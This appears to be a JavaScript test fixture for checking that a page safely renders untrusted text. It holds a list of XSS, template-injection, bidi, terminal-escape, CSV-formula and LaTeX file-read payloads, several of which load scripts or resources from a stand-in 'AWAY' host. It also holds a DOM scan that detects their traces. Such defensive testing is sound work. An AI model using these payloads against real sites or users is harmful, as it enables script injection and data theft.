// Texts that would run, ask or hide something where a page takes them for more than text. `mark` is in each that
// runs a script: what ran leaves it behind. `away` is an address of this machine that nobody may ask.

/// What a script of a payload does.
const run = (at) => `globalThis.ran=(globalThis.ran||[]).concat(${at})`;

/// All payloads, each on one line.
export function payloads(away) {
  const made = (at, text) => text.replaceAll('RUN', run(at)).replaceAll('AWAY', away);
  return [
    '<script>RUN</script>',
    '</title><script>RUN</script>',
    '</textarea><script>RUN</script>',
    '</style><script>RUN</script>',
    '<script src="AWAY/s.js"></script>',
    '<script type=module>import "AWAY/m.js"</script>',
    '<SCRIPT/x>RUN</SCRIPT>',
    '<scr<script>ipt>RUN</scr</script>ipt>',
    '"><script>RUN</script>',
    "';RUN;//",
    '`;RUN;//',
    '--><script>RUN</script><!--',
    ']]><script>RUN</script>',
    '<img src=x onerror="RUN">',
    '<img src=AWAY/i.png>',
    '<img srcset="AWAY/set.png 1x">',
    '<img/src=x/onerror=RUN>',
    '<svg onload="RUN">',
    '<svg><script>RUN</script></svg>',
    '<svg><animate onbegin="RUN" attributeName=x dur=1s>',
    '<svg><use href="AWAY/u.svg#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.ran=[1]</script>"></iframe></foreignObject></svg>',
    '<math><mi xlink:href="javascript:RUN">x</mi></math>',
    '<body onload="RUN">',
    '<input autofocus onfocus="RUN">',
    '<details open ontoggle="RUN"><summary>x</summary></details>',
    '<video><source onerror="RUN"></video>',
    '<audio src=AWAY/a.ogg autoplay onerror="RUN">',
    '<marquee onstart="RUN">x</marquee>',
    '<div style="background:url(AWAY/b.png)">x</div>',
    '<style>@import "AWAY/c.css"; * { background: url(AWAY/d.png) }</style>',
    '<link rel=stylesheet href=AWAY/l.css>',
    '<link rel=prefetch href=AWAY/p>',
    '<meta http-equiv=refresh content="0;url=AWAY/r">',
    '<base href=AWAY/>',
    '<iframe src="javascript:RUN"></iframe>',
    '<iframe src=AWAY/f.html></iframe>',
    '<object data=AWAY/o.swf></object>',
    '<embed src=AWAY/e.swf>',
    '<form action=AWAY/form><button>Sign in again</button></form>',
    '<a href="javascript:RUN">Read more</a>',
    '[Read more](javascript:RUN)',
    '![x](AWAY/markdown.png)',
    '<a href="data:text/html,<script>RUN</script>">x</a>',
    '<a ping=AWAY/ping href=AWAY>x</a>',
    '<template><script>RUN</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '{{constructor.constructor("RUN")()}}',
    '{@html "<script>RUN</script>"}',
    '${RUN}',
    '<%= RUN %>',
    '#{RUN}',
    '&lt;script&gt;RUN&lt;/script&gt;',
    '&#60;img src=x onerror=RUN&#62;',
    '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
    '%3Cscript%3ERUN%3C/script%3E',
    '\u202e<script>RUN</script>\u202c',
    '\u2066// admin \u2069\u2066if (RUN)',
    'admin\u200b\u200d\ufeff<b>RUN</b>',
    '\u001b[2J\u001b]8;;AWAY\u001b\\click\u001b]8;;\u001b\\',
    '\u001b]52;c;RUN\u0007',
    '=cmd|" /C calc"!A1 RUN',
    '#eval("RUN") #image("AWAY/typst.png")',
    '\\input{/etc/passwd} \\href{AWAY}{x} RUN',
  ].map((text, at) => made(at, text));
}

/// A text as a page shows it: white space is one space, and what cannot be seen is not there.
export const seen = (text) => text.replace(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/g, '').replace(/\s+/g, ' ').trim();

/// What a page holds that it could only have from a payload. Runs in the page and sees nothing of this file.
export function foreign() {
  const found = [];
  const own = (address) => address === '' || address.startsWith('#') || new URL(address, location.href).origin === location.origin;
  for (const node of document.querySelectorAll('*')) {
    const name = node.localName;
    if (['iframe', 'object', 'embed', 'base', 'marquee', 'math', 'foreignobject', 'audio', 'video'].includes(name)) found.push(node.outerHTML);
    if (name === 'script' && !(node.src && own(node.src))) found.push(node.outerHTML);
    if (name === 'meta' && node.httpEquiv === 'refresh') found.push(node.outerHTML);
    if (name === 'form' && node.hasAttribute('action')) found.push(node.outerHTML);
    if (name === 'link' && !own(node.href) && node.rel !== 'icon') found.push(node.outerHTML);
    for (const { name: key, value } of node.attributes) {
      if (key.startsWith('on') || key === 'srcdoc' || key === 'ping') found.push(node.outerHTML);
      if (['href', 'src', 'action', 'xlink:href', 'srcset'].includes(key) && !own(value) && !/^(https:|mailto:|blob:|data:image\/|data:,$)/.test(value)) found.push(node.outerHTML);
    }
  }
  return { ran: globalThis.ran ?? [], found: found.map((html) => html.slice(0, 300)) };
}
